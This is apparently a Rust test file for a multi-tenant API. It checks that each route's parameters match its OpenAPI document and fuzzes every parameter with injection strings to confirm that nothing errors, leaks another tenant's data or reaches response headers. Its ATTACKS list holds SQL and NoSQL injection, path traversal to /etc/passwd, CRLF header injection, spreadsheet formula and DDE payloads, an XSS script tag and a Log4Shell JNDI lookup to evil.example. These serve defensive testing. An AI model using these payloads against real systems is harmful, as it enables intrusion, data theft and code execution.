//! What openapi.json says of parameters is what the routes do; and whatever is put into one, no route
//! fails, shows another tenant's data or lets it into a header.
//!
//! Every call here comes from the document. That answers are as it says is asked of every test's
//! answers, in [`World::call`].

use super::walls::Property;
use crate::openapi::{Operation, Parameter, operations};
use crate::world::{Answer, Call, World};
use serde_json::Value;
use std::collections::BTreeSet;
use vernier_ledger::clock;
use vernier_validation::{Mode, Profile};

/// Where a Caliper endpoint's address may carry a query of its own: it is not looked at.
const TAKES_ANY_QUERY: &str = "/caliper";

/// The call with another value for one parameter.
fn with(call: &Call, parameter: Parameter, value: &str) -> Call {
    let mut call = call.clone();
    match parameter.place() {
        "path" => call.id = Some(value.to_owned()),
        "query" => {
            call.query.retain(|(name, _)| name != parameter.name());
            call = call.query(parameter.name(), value);
        }
        _ => call = call.header(&parameter.name().to_lowercase(), value),
    }
    call
}

fn said(call: &Call, answer: &Answer) -> String {
    let body: String = String::from_utf8_lossy(&answer.body)
        .chars()
        .take(600)
        .collect();
    let (id, query) = (&call.id, &call.query);
    format!(
        "{} {} {id:?} {query:?}: {} {body}",
        call.method, call.route, answer.status
    )
}

/// The parameters that a refusal of an unknown one lists.
fn listed(answer: &Answer) -> BTreeSet<String> {
    let detail = answer.json()["detail"].to_string();
    let list = detail.split_once("there are ").map_or("", |(_, list)| list);
    let names = list.trim_end_matches('"').split(", ");
    names
        .filter(|name| !name.is_empty())
        .map(str::to_owned)
        .collect()
}

/// Values of a query parameter just inside and just outside of what its schema says.
fn edges(parameter: Parameter) -> (Vec<String>, Vec<String>) {
    let schema = parameter.schema();
    let (mut inside, mut outside) = (Vec::new(), Vec::new());
    if let Some(words) = schema["enum"].as_array() {
        inside.extend(words.iter().filter_map(Value::as_str).map(str::to_owned));
        outside.extend(["nonsense".to_owned(), String::new()]);
    }
    if let Some(most) = schema["maxLength"].as_u64().and_then(|n| n.try_into().ok()) {
        inside.push("x".repeat(most));
        outside.push("x".repeat(most + 1));
    }
    // Whatever else it is, it is no text of a cursor.
    if parameter.name() == "cursor" {
        outside.push("x".to_owned());
    }
    if schema["minLength"] == 1 {
        outside.push(String::new());
    }
    if schema["type"] == "integer" {
        outside.extend(["ten".to_owned(), "1.5".to_owned(), String::new()]);
    }
    if let Some(least) = schema["minimum"].as_i64() {
        inside.push(least.to_string());
        outside.push((least - 1).to_string());
    }
    if let Some(most) = schema["maximum"].as_u64() {
        inside.push(most.to_string());
        outside.push((u128::from(most) + 1).to_string());
    }
    if schema["format"] == "date-time" {
        outside.extend(["yesterday".to_owned(), "2026-11-21".to_owned()]);
    }
    (inside, outside)
}

/// One value of one parameter, and whether it is refused.
async fn expect<W: World>(world: &W, call: Call, parameter: Parameter, refused: bool) {
    let answer = world.call(call.clone()).await;
    assert_eq!(answer.status == 400, refused, "{}", said(&call, &answer));
    let detail = answer.json()["detail"].to_string();
    let named = detail.contains(parameter.name());
    assert!(named || !refused, "{}", said(&call, &answer));
}

/// A parameter takes what its schema says and nothing else, once, and is there when it must be.
async fn check_parameter<W: World>(world: &W, call: &Call, parameter: Parameter) {
    let (inside, outside) = edges(parameter);
    for value in &inside {
        expect(world, with(call, parameter, value), parameter, false).await;
    }
    for value in &outside {
        expect(world, with(call, parameter, value), parameter, true).await;
    }
    let example = parameter.example();
    let twice = with(call, parameter, &example).query(parameter.name(), &example);
    expect(world, twice, parameter, true).await;
    if parameter.0["required"] == true {
        let mut without = call.clone();
        without.query.retain(|(name, _)| name != parameter.name());
        expect(world, without, parameter, true).await;
    }
}

/// Each operation takes the parameters that the document lists and no others, within the bounds
/// that it states.
pub async fn parameters_are_as_described<W: World>(world: &W) {
    let member = world.tenant(Mode::Strict, Profile::Generic).await;
    let strict =
        |operation: &Operation| operation.needs_token() && operation.path != TAKES_ANY_QUERY;
    let mut number = 0;
    for operation in operations().into_iter().filter(strict) {
        let call = operation.call().token(&member.secret);
        let parameters = operation.parameters();
        let queried = parameters.into_iter().filter(|p| p.place() == "query");
        let queried: Vec<Parameter> = queried.collect();
        let unknown = call.clone().query("no-such", "1");
        let answer = world.call(unknown.clone()).await;
        assert_eq!(answer.status, 400, "{}", said(&unknown, &answer));
        let documented = queried.iter().map(|p| p.name().to_owned()).collect();
        assert_eq!(listed(&answer), documented, "{}", said(&unknown, &answer));
        for parameter in queried {
            number += 1;
            if number % W::STRIDE == 0 {
                check_parameter(world, &call, parameter).await;
            }
        }
    }
}

/// A range may be as long as the document says, and no longer.
pub async fn ranges_are_as_described<W: World>(world: &W) {
    let member = world.tenant(Mode::Strict, Profile::Generic).await;
    let mut ranged = 0;
    for operation in operations() {
        let names: Vec<&str> = operation.parameters().iter().map(Parameter::name).collect();
        let range = &operation.object["x-range-seconds"];
        assert_eq!(
            names.contains(&"from"),
            range.is_object(),
            "{}",
            operation.path
        );
        let Some(most) = range["maximum"].as_i64() else {
            continue;
        };
        let default = range["default"].as_i64().unwrap_or(i64::MAX);
        assert!(default <= most, "{}", operation.path);
        ranged += 1;
        let to = clock::now();
        for (seconds, refused) in [(most, false), (most + 1, true)] {
            let call = operation.call().token(&member.secret);
            let call = call
                .query("from", &to.plus_seconds(-seconds).rfc3339())
                .query("to", &to.rfc3339());
            let answer = world.call(call.clone()).await;
            assert_eq!(answer.status == 400, refused, "{}", said(&call, &answer));
        }
    }
    assert!(ranged > 10, "{ranged}");
}

/// What is tried in every parameter, beside what is known of another tenant.
const ATTACKS: [&str; 22] = [
    // Operators of stores.
    "{\"$ne\":null}",
    "[\"$gt\",\"\"]",
    "' OR '1'='1",
    "\"; DROP TABLE events; --",
    "attribute_exists(pk)",
    "*",
    // Ways to elsewhere.
    "../../../../etc/passwd",
    "..%2f..%2fseals%2f0",
    "..\\..\\seals",
    "file:///etc/passwd",
    // Headers of our own.
    "a\r\nx-injected: 1\r\n\r\n<p>",
    "a\nset-cookie: x-injected=1",
    // What spreadsheets, browsers and loggers run.
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}%s%n",
    // Bytes and characters.
    "a\0b",
    "\u{202e}\u{feff}\u{ff1d}1+1",
    "\u{1f4a5}\u{0301}\u{0301}\u{200d}",
    // Numbers that are none of ours.
    "-1e999",
    "NaN",
];

/// The attacks, with what somebody may know of the owner.
fn attacks(property: &Property, cursor: &str) -> Vec<String> {
    let tenant = &property.owner.tenant;
    let mut all: Vec<String> = ATTACKS.iter().map(|&attack| attack.to_owned()).collect();
    all.extend([
        "x".repeat(4_000),
        "\u{1f4a5}".repeat(1_000),
        format!("../{tenant}/"),
        format!("receipts#{tenant}#0"),
        cursor.to_owned(),
        format!("{}A", &cursor[..cursor.len() - 1]),
    ]);
    all
}

/// Whether a value cannot be one of the parameter's, as every attack on a closed schema is.
fn is_closed(parameter: Parameter) -> bool {
    let schema = parameter.schema();
    let narrow = ["enum", "format", "pattern"];
    parameter.name() == "cursor"
        || schema["type"] == "integer"
        || narrow.iter().any(|word| !schema[word].is_null())
}

fn assert_harmless(property: &Property, call: &Call, answer: &Answer, attack: &str) {
    let told = said(call, answer);
    assert!(answer.status < 500, "{told}");
    assert_eq!(property.shown(call, answer), [""; 0], "{told}");
    for (name, value) in &answer.headers {
        assert!(!name.contains("x-injected"), "{name}: {told}");
        assert!(!value.contains(attack), "{name}: {value}: {told}");
        assert!(
            !value.contains(['\r', '\n', '\0']),
            "{name}: {value}: {told}"
        );
    }
    if answer.header("content-type").starts_with("text/csv") {
        let body = String::from_utf8_lossy(&answer.body);
        let mut cells = body.split(['\n', ',']);
        let formula = cells.any(|cell| cell.trim_matches('"').starts_with(attack));
        assert!(!formula, "{told}");
    }
}

/// Whether a client sends it as a header's value.
fn is_sendable(attack: &str) -> bool {
    attack.is_ascii() && http::HeaderValue::from_str(attack).is_ok()
}

/// Nothing that is put into any parameter of any route breaks it or opens a door.
pub async fn injections_find_nothing_and_break_nothing<W: World>(world: &W) {
    let property = Property::of(world).await;
    let list = Call::get("/events").query("limit", "1");
    let list = world.call(list.token(&property.owner.secret)).await;
    let cursor = list.json()["next_cursor"].clone();
    let cursor = cursor.as_str().expect("the owner has two events");
    let attacks = attacks(&property, cursor);
    let stranger = world.tenant(Mode::Strict, Profile::Generic).await;
    let (mut number, mut tried) = (0, 0);
    for operation in operations().iter().filter(|o| o.needs_token()) {
        let call = operation.call().token(&stranger.secret);
        let mut calls: Vec<(Call, &str, bool)> = Vec::new();
        for parameter in operation.parameters() {
            let header = parameter.place() == "header";
            let sent = attacks
                .iter()
                .filter(|attack| !header || is_sendable(attack));
            let closed = is_closed(parameter);
            calls.extend(sent.map(|attack| (with(&call, parameter, attack), &**attack, closed)));
            if operation.path != TAKES_ANY_QUERY {
                let operator = format!("{}[$ne]", parameter.name());
                calls.push((call.clone().query(&operator, "1"), "$ne", true));
            }
        }
        for attack in attacks.iter().filter(|attack| is_sendable(attack)) {
            let call = operation.call().header("authorization", attack);
            calls.push((call, attack, true));
        }
        for (call, attack, closed) in calls {
            number += 1;
            if number % W::STRIDE != 0 {
                continue;
            }
            let answer = world.call(call.clone()).await;
            tried += 1;
            assert_harmless(&property, &call, &answer, attack);
            let refused = (400..500).contains(&answer.status);
            assert!(refused || !closed, "{}", said(&call, &answer));
        }
    }
    assert!(tried > 1_000 / W::STRIDE, "{tried}");
}
